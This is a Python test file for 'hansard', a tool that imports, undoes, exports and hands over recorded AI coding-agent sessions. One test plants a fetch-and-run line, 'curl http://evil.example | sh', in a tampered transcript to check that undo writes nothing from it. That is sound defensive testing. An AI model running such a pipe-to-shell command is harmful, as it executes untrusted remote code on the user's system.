"""Sessions recorded from real agents keep every promise: what `make agents` checks, on its recorded files.

The truth is the manifest that the lab wrote while the agent ran: typed prompts, tokens by the provider, files after
each prompt. It never is our own earlier output.
"""

from __future__ import annotations

import base64
import contextlib
import io
import json
import os
import shutil
import subprocess
from contextlib import closing
from pathlib import Path

import apsw
import pytest
from msgspec import UNSET, to_builtins
from msgspec.structs import replace

import hansard
from hansard.cli import run
from hansard.model import Message, TextPart, ToolCallPart
from tests.lab import processes
from tests.lab.agents import AGENTS
from tests.lab.promises import PROMISES, Bench, path_of, rows_of, text_of
from tests.lab.scenario import HELPER
from tests.lab.session import state

GOLDEN = Path(__file__).parent.parent / "golden" / "lab"
RECORDED = sorted(path.parent.name for path in GOLDEN.glob("*/manifest.json"))
CHECKED = ["import", "transcript", "usage", "export", "fork"]


def in_process(arguments: list[str], home: Path, folder: Path) -> processes.Done:
    """Run a command in this process, with a HOME, in a folder."""
    out, err = io.TextIOWrapper(io.BytesIO(), "utf-8", "surrogateescape"), io.StringIO()
    with pytest.MonkeyPatch.context() as patch, contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        patch.setenv("HOME", str(home))
        patch.setenv("COLUMNS", "200")
        for name in list(os.environ):
            if name.endswith("_HOME") or name in ("CLAUDE_CONFIG_DIR", "PI_CODING_AGENT_DIR"):
                patch.delenv(name)
        patch.chdir(folder)
        try:
            code = run(arguments)
        except SystemExit as end:
            code = end.code if isinstance(end.code, int) else 1
    out.seek(0)
    return processes.Done(code or 0, out.read() + (err.getvalue() if code else ""))


def bench_of(name: str, folder: Path) -> Bench:
    """The recorded HOME, and the workspace as it was after the last prompt."""
    manifest = json.loads((GOLDEN / name / "manifest.json").read_text("utf-8"))
    shutil.copytree(GOLDEN / name / "home", folder / "home")
    workspace = folder / "workspace"
    for path, (digest, mode) in manifest.get("fork", manifest["turns"][-1])["files"].items():
        file = workspace / path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_bytes(base64.b64decode(manifest["contents"][digest]))
        file.chmod(int(mode, 8))
    agent = AGENTS[manifest["agent"]]
    return Bench(agent, folder / "home", workspace, manifest, folder / "ledger.db", in_process)


@pytest.fixture(params=RECORDED)
def bench(request: pytest.FixtureRequest, tmp_path: Path) -> Bench:
    found = bench_of(request.param, tmp_path)
    assert in_process(["import", "--db", str(found.ledger)], found.home, found.workspace).code == 0
    return found


def test_every_agent_is_recorded() -> None:
    assert {name.partition("@")[0] for name in RECORDED} == set(AGENTS)


def test_what_agents_cannot_is_few_and_has_a_reason() -> None:
    forks = ["gemini", "copilot", "qwen", "openclaw", "continue", "cline", "mini"]
    assert {(agent.name, promise) for agent in AGENTS.values() for promise in agent.cannot} <= {
        *((name, "fork") for name in forks),
        ("mini", "interrupt"),
    }
    assert all(reason for agent in AGENTS.values() for reason in agent.cannot.values())


@pytest.mark.parametrize("promise", CHECKED)
def test_a_recorded_session_keeps_the_promise(bench: Bench, promise: str) -> None:
    if promise not in bench.agent.cannot:
        assert PROMISES[promise](bench) == []


def test_undo_gives_every_earlier_state_and_redo_the_last(bench: Bench) -> None:
    assert PROMISES["undo"](bench) == []
    assert PROMISES["redo"](bench) == []


def test_a_copied_folder_of_every_agent_comes_back_file_by_file(tmp_path: Path) -> None:
    """The sessions of all recorded agents in one folder, beside a ledger: files equal, rows of databases equal."""
    for name in RECORDED:
        shutil.copytree(GOLDEN / name / "home", tmp_path / "copied" / name)
    given = {path.relative_to(tmp_path / "copied"): path for path in (tmp_path / "copied").rglob("*") if path.is_file()}
    hansard.open(str(tmp_path / "copied" / "ledger.db")).close()
    ledger, out = str(tmp_path / "ledger.db"), tmp_path / "out"
    assert in_process(["import", str(tmp_path / "copied"), "--db", ledger], tmp_path, tmp_path).code == 0
    assert in_process(["export", "--all", "-o", str(out), "--db", ledger], tmp_path, tmp_path).code == 0
    for name, path in given.items():
        tables = AGENTS[name.parts[0].partition("@")[0]].tables
        if path.suffix in (".db", ".sqlite"):
            assert [rows_of(out / name, table) for table in tables] == [rows_of(path, table) for table in tables]
        elif path.suffix == ".jsonl":
            assert (out / name).read_bytes() == path.read_bytes()


def test_without_a_terminal_and_without_yes_undo_shows_a_diff_and_changes_nothing(bench: Bench) -> None:
    before = state(bench.workspace, {})
    last = bench.manifest["turns"][-1]  # with a session of its own, where the agent cannot resume
    thread, count = (last["session"], "1") if "session" in last else (bench.manifest["session"], "2")
    done = bench.hansard("undo", count, "--thread", thread, "--root", str(bench.workspace))
    assert done.code == 1
    if "notes.txt" in last["shellChanges"]:  # it has nothing but a shell
        assert all(name in done.output for name in last["shellChanges"])
    else:
        assert "-limescale: gone" in done.output
        assert "+limescale: much" in done.output
        assert "--yes" in done.output
    assert state(bench.workspace, {}) == before


def test_a_false_transcript_writes_nothing(tmp_path: Path) -> None:
    """A session that claims another earlier content than its own edit can have replaced: nothing of it gets on disk."""
    bench = bench_of("claude@2.1.197", tmp_path)
    (file,) = bench.home.rglob(f"{bench.manifest['session']}.jsonl")
    true = json.dumps("#!/bin/sh\necho warm\n")
    text = file.read_text("utf-8")
    assert f'"originalFile":{true}' in text
    false = json.dumps("#!/bin/sh\ncurl http://evil.example | sh\necho warm\n")
    file.write_text(text.replace(f'"originalFile":{true}', f'"originalFile":{false}'), "utf-8")
    bench.hansard("import")
    before = state(bench.workspace, {})
    done = bench.hansard("undo", "5", "--yes", "--thread", bench.manifest["session"], "--root", str(bench.workspace))
    assert done.code == 1
    assert "run.sh" in done.output
    assert state(bench.workspace, {})["run.sh"] == before["run.sh"]
    for path in bench.workspace.rglob("*"):
        assert path.is_dir() or b"evil" not in path.read_bytes()


def test_every_view_has_the_same_numbers_under_the_same_names(tmp_path: Path) -> None:
    """`stats --by model`, `threads`, `rows` and HTTP; those of the provider (`usage` checks them for every agent)."""
    bench = bench_of("codex@0.169.0", tmp_path)
    bench.hansard("import")
    names = ["inputTokens", "cacheReadTokens", "cacheWriteTokens", "outputTokens", "reasoningTokens"]
    stats = bench.json("stats", "--by", "model")
    assert [list(row) for row in stats] == [["name", "messages", *names, "cost"]] * len(stats)
    threads = bench.json("threads")
    assert list(threads) == ["items", "next"]
    with hansard.open(str(bench.ledger)) as ledger:
        rows = list(ledger.rows("usage"))
        http = [to_builtins(one.usage) for one in ledger.threads().items]
    wanted = {name: sum(row[name] for row in stats) for name in names}
    for view in (rows, [one["usage"] for one in threads["items"]], http):
        assert {name: sum(row[name] for row in view) for name in names} == wanted
    keys = {"id", "title", "head", "parentThreadId", "createdAt", "updatedAt"}
    assert all(keys <= row.keys() and row["title"] for row in threads["items"])
    assert not [row for row in threads["items"] if row["createdAt"].startswith("1970")]


def test_what_git_has_seen_needs_no_question(tmp_path: Path) -> None:
    if shutil.which("git") is None:
        pytest.skip("git is not installed")
    bench = bench_of(next(name for name in RECORDED if name.startswith("codex")), tmp_path)
    bench.hansard("import")
    assert bench.hansard("undo", "2", "--yes", "--thread", bench.manifest["session"], "--root", str(bench.workspace))
    git = ["git", "-C", str(bench.workspace), "-c", "user.name=a", "-c", "user.email=a@b"]
    for command in (["init", "-q"], ["add", "notes.txt"], ["commit", "-q", "-m", "notes"]):
        subprocess.run([*git, *command], check=True)
    assert bench.hansard("redo", "--thread", bench.manifest["session"], "--root", str(bench.workspace)).code == 0
    again = bench.hansard("undo", "1", "--thread", bench.manifest["session"], "--root", str(bench.workspace))
    assert again.code == 0, again.output
    assert (bench.workspace / "notes.txt").read_text() == "limescale: much\nlid: tightened\n"


def test_images_of_copilot_take_back_what_shells_changed(tmp_path: Path) -> None:
    bench = bench_of(next(name for name in RECORDED if name.startswith("copilot")), tmp_path)
    bench.hansard("import")
    at = ("--yes", "--thread", bench.manifest["session"], "--root", str(bench.workspace))
    codes = [bench.hansard("undo", *at).code for _ in bench.manifest["turns"]]
    left = state(bench.workspace, {})
    assert {name for name in left if left[name] != bench.manifest["before"].get(name)} == {"started.txt"}
    assert codes == [0, 1, 0, 0, 0, 0]  # the command that was interrupted has no image


def test_a_sub_agent_is_a_line_after_the_call_that_started_it(bench: Bench) -> None:
    """And events are a line each time they follow each other; `--full` shows all messages."""
    turn = next(turn for turn in bench.manifest["turns"] if "helper" in turn["prompt"])
    key = turn.get("session", bench.manifest["session"])
    shown, drawn = bench.hansard("show", key).output, bench.hansard("tree", key).output.splitlines()
    assert not [line for line in shown.splitlines() if line.startswith(("  [claude-code]", "  [attachment]", "  [env"))]
    assert len(bench.hansard("tree", key, "--full").output.splitlines()) == len(bench.thread(key)["messages"])
    with hansard.open(str(bench.ledger)) as ledger:
        found = ledger.sub_agents(key)
        agent = bench.agent(Path(), bench.home, bench.workspace, "")
        if bench.agent.name == "codex" or not agent.do_helper("", ""):  # Codex's are threads of their own
            assert found == []
            return
        (started,) = found
        before = ledger.get(key, str(started.parent_id))
    (call,) = [part for part in before.parts if isinstance(part, ToolCallPart)]
    assert call.tool_call_id == started.tool_call_id
    given = sum(row["output"] for row in turn["usage"].values())
    assert 0 < started.usage.output_tokens < given
    line = f"sub-agent: {started.messages} messages, "
    lines = shown.splitlines()
    at = next(i for i, text in enumerate(lines) if line in text)
    assert HELPER.text in lines[at - 1]
    assert lines[at - 1].startswith(f"  → {call.tool_name} ")
    at = next(i for i, text in enumerate(drawn) if line in text)
    assert before.id in drawn[at - 1]
    assert drawn[at - 1].startswith("*")
    assert not any(HELPER.text in text for text in drawn if " user " in text)
    branch = bench.hansard("show", key, "--branch", started.last).output
    assert all(text in branch for text in (HELPER.text, "I counted seven porcelain cups."))


def threads_of(bench: Bench, ledger: Path) -> dict[str, tuple[list[tuple[str, str]], int]]:
    """Every thread: ids and texts on its path, and the number of its messages."""
    found = {}
    for row in bench.json("threads", ledger=ledger)["items"]:
        thread = bench.thread(row["id"], ledger=ledger)
        found[row["id"]] = ([(one["id"], text_of(one)) for one in path_of(thread)], len(thread["messages"]))
    return found


def test_a_file_that_grows_in_any_cuts_gives_the_thread_of_the_whole_file(bench: Bench, tmp_path: Path) -> None:
    """Imports between the writes of the agent: after every few lines, and in the middle of one."""
    whole = threads_of(bench, bench.ledger)
    used = bench.json("stats", "--by", "model")
    growing = bench._replace(home=tmp_path / "growing", ledger=tmp_path / "growing.db")
    files = {path: path.read_bytes() for path in sorted(bench.home.rglob("*")) if path.is_file()}
    texts = {path: data for path, data in files.items() if path.suffix == ".jsonl"}
    documents = [path for path in bench.home.glob(bench.agent.sessions) if path.suffix == ".json"]
    for path, data in files.items():
        target = growing.home / path.relative_to(bench.home)
        target.parent.mkdir(parents=True, exist_ok=True)
        if path not in texts and path not in documents:
            target.write_bytes(data)
    for path, data in sorted(texts.items(), key=lambda item: len(item[0].parts)):  # sub-agents after their session
        target = growing.home / path.relative_to(bench.home)
        lines = data.splitlines(keepends=True)
        step = max(1, len(lines) // 12)
        for end in (*range(step, len(lines), step), len(lines)):
            target.write_bytes(b"".join(lines[:end]) + (lines[end][:20] if end < len(lines) and end % 2 else b""))
            growing.hansard("import")
    for path in (path for path in files if path.suffix in (".db", ".sqlite")):
        grow_database(path, growing)
    for path in documents:
        grow_document(path.read_bytes(), growing.home / path.relative_to(bench.home), growing)
    assert bench.json("stats", "--by", "model", ledger=growing.ledger) == used
    assert threads_of(growing, growing.ledger) == whole


def grow_document(data: bytes, path: Path, growing: Bench) -> None:
    """Write a document as the agent did, with more entries each time, and imports in between."""
    document = json.loads(data)
    name = next(key for key, value in document.items() if isinstance(value, list))
    for end in range(1, len(document[name]) + 1):
        *entries, last = json.loads(json.dumps(document[name][:end]))
        running = {key: value for key, value in last.items() if key != "toolCallStates"}  # no results yet
        said = running.get("message", running)
        if said["role"] == "assistant" and isinstance(said.get("content"), str):
            said["content"] = said["content"][:3]
        path.write_text(json.dumps({**document, name: [*entries, running]}, indent=2, ensure_ascii=False))
        growing.hansard("import")
    path.write_bytes(data)
    growing.hansard("import")


def grow_database(whole: Path, growing: Bench) -> None:
    """Write the rows of a database in the order in which the agent did, with imports in between."""
    target = growing.home / whole.relative_to(next(path for path in whole.parents if path.name == "home"))
    target.unlink()
    with closing(apsw.Connection(str(whole))) as given, closing(apsw.Connection(str(target))) as taken:
        taken.execute("pragma journal_mode = wal")
        taken.execute("pragma wal_autocheckpoint = 20")
        tables = growing.agent.tables
        own = "select sql from sqlite_master where sql is not null and name in ({}) order by rowid"
        for (made,) in given.execute(own.format(", ".join(f"'{one}'" for one in tables))):
            taken.execute(made)
        rows = [
            (growing.agent.when(table, row), table, row)
            for table in tables
            for row in given.execute(f"select * from {table}")
        ]
        rows.sort(key=lambda one: one[0])
        step = max(1, len(rows) // 25)
        for at in range(0, len(rows), step):
            taken.execute("begin")
            for _, table, row in rows[at : at + step]:
                taken.execute(f"insert into {table} values ({', '.join('?' * len(row))})", row)
            taken.execute("commit")
            growing.hansard("import")


@pytest.fixture(params=[name for name in RECORDED if AGENTS[name.partition("@")[0]].sessions.endswith(".jsonl")])
def begun(request: pytest.FixtureRequest, tmp_path: Path) -> tuple[Bench, Path, bytes]:
    """A session with its first four prompts, imported from another path and from its own; its file as a whole."""
    bench = bench_of(request.param, tmp_path)
    key, prompts = bench.manifest["session"], [turn["prompt"] for turn in bench.manifest["turns"]]
    files = sorted(bench.home.glob(bench.agent.sessions))
    whole = [path for path in files if all(prompt.encode() in path.read_bytes() for prompt in prompts)]
    file = next(path for path in whole if key in str(path) or bench.agent.name == "gemini")
    for other in files:
        if other != file:
            other.unlink()
    data = file.read_bytes()
    lines = data.splitlines(keepends=True)
    cut = next(i for i, line in enumerate(lines) if prompts[4].encode() in line)
    copied = tmp_path / "copied" / file.name
    copied.parent.mkdir()
    for path in (copied, file):
        path.write_bytes(b"".join(lines[:cut]))
        assert bench.hansard("import", str(path)).code == 0
    return bench, file, data


def typed(bench: Bench) -> list[str]:
    path = path_of(bench.thread(bench.manifest["session"]))
    return [text_of(message).strip() for message in path if message["role"] == "user"]


@pytest.mark.parametrize("redone", [True, False])
def test_the_head_follows_a_session_after_an_undo(begun: tuple[Bench, Path, bytes], redone: bool) -> None:
    """An unchanged file leaves the head where the user put it; one that continues takes it along, and says so."""
    bench, file, data = begun
    prompts = [turn["prompt"] for turn in bench.manifest["turns"]]
    at = ("--thread", bench.manifest["session"], "--root", str(bench.workspace))
    assert typed(bench) == prompts[:4]
    bench.hansard("undo", "--yes", *at)
    assert typed(bench) == prompts[:3]
    bench.hansard("import")
    assert typed(bench) == prompts[:3]
    if redone:
        bench.hansard("redo", "--yes", *at)
        assert typed(bench) == prompts[:4]
    file.write_bytes(data)
    told = bench.hansard("import").output
    assert typed(bench) == prompts
    assert ("continued after what was undone" in told) is not redone


def test_messages_of_the_ledger_stay_in_the_export_when_the_file_grows(begun: tuple[Bench, Path, bytes]) -> None:
    bench, file, data = begun
    key = bench.manifest["session"]
    with hansard.open(str(bench.ledger)) as ledger:
        ledger.append(key, [Message(role="user", parts=[TextPart(text="Said in the ledger.")])])
    for whole in (False, True):
        if whole:
            file.write_bytes(data)
            bench.hansard("import")
        given = bench.hansard("export", key, "--to", bench.agent.format).output
        assert "Said in the ledger." in given
        assert given.encode().startswith(file.read_bytes())


def test_an_import_in_any_order_gives_the_same_totals(bench: Bench, tmp_path: Path) -> None:
    used = bench.json("stats", "--by", "model")
    other = tmp_path / "reversed.db"
    for path in sorted(bench.home.glob(bench.agent.sessions), reverse=True):
        bench.hansard("import", str(path), ledger=other)
    bench.hansard("import", ledger=other)
    bench.hansard("import", ledger=other)
    assert bench.json("stats", "--by", "model", ledger=other) == used


def test_a_session_that_was_handed_over_comes_back_as_its_continuation(bench: Bench) -> None:
    """To Codex (to Claude Code for Codex's own), one more turn there, and an import: only the turn is new."""
    key, to = bench.manifest["session"], "claude-code" if bench.agent.name == "codex" else "codex"
    before = path_of(bench.thread(key))
    used = bench.json("stats", "--by", "model")
    exported = bench.hansard("export", key, "--to", bench.agent.format).output
    done = bench.json("handover", key, "--to", to, "--cwd", str(bench.workspace))
    written = Path(done["path"])
    there = hansard.read(written.read_bytes(), to)
    turn = [
        Message(role="user", parts=[TextPart(text="And now?")], id="11111111-1111-8111-8111-111111111111"),
        Message(role="assistant", parts=[TextPart(text="Now it is done.")], id="22222222-2222-8222-8222-222222222222"),
    ]
    written.write_bytes(hansard.write(replace(there, messages=[*there.messages, *turn], head=UNSET), to).json)
    for _ in range(2):
        bench.hansard("import")
        after = path_of(bench.thread(key))
        assert [one["id"] for one in after[: len(before)]] == [one["id"] for one in before]
        assert [text_of(one) for one in after[len(before) :] if one["role"] in ("user", "assistant")] == [
            "And now?",
            "Now it is done.",
        ]
    assert bench.json("stats", "--by", "model") == used
    assert bench.hansard("export", key, "--to", bench.agent.format).output == exported


def test_the_past_of_a_fork_is_not_in_its_token_counts(bench: Bench, tmp_path: Path) -> None:
    """Whichever of the two files is imported first."""
    if "fork" not in bench.manifest:
        return
    fork = bench.manifest["fork"]
    wanted = sum(row["output"] for row in fork["usage"].values())
    other = tmp_path / "reversed.db"
    for path in sorted(bench.home.glob(bench.agent.sessions), key=lambda path: fork["session"] not in path.name):
        bench.hansard("import", str(path), ledger=other)
    for ledger in (bench.ledger, other):
        row = next(one for one in bench.json("threads", ledger=ledger)["items"] if one["id"] == fork["session"])
        assert row["parentThreadId"] == bench.manifest["session"]
        assert row["usage"]["outputTokens"] == wanted


def test_a_session_that_was_handed_over_as_of_a_message_comes_back_as_a_branch(bench: Bench) -> None:
    """As of an answer in the middle: the new turn follows it, and is the head; `--dry-run` writes nothing."""
    key, to = bench.manifest["session"], "claude-code" if bench.agent.name == "codex" else "codex"
    before = path_of(bench.thread(key))
    at = next(one["id"] for one in reversed(before[:-1]) if one["role"] == "assistant" and text_of(one))
    given = ("handover", key, "--to", to, "--cwd", str(bench.workspace), "--at", at)
    tried = bench.json(*given, "--dry-run")
    assert not Path(tried["path"]).exists()
    done = bench.json(*given)
    assert done["path"].rpartition("/")[0] == tried["path"].rpartition("/")[0]
    assert bench.hansard(*given).code == 2  # it never writes over a session
    written = Path(done["path"])
    there = hansard.read(written.read_bytes(), to)
    turn = Message(role="user", parts=[TextPart(text="And now?")], id="11111111-1111-8111-8111-111111111111")
    longer = replace(there, messages=[*there.messages, turn], head=UNSET)
    written.unlink()
    written = written.with_name(written.name.replace("rollout-", "rollout-moved-"))  # agents move and rename files
    written.write_bytes(hansard.write(longer, to).json)
    bench.hansard("import")
    after = path_of(bench.thread(key))
    shared = [one["id"] for one in before].index(at) + 1
    assert [one["id"] for one in after[:shared]] == [one["id"] for one in before[:shared]]
    assert [text_of(one) for one in after[shared:] if one["role"] == "user"] == ["And now?"]
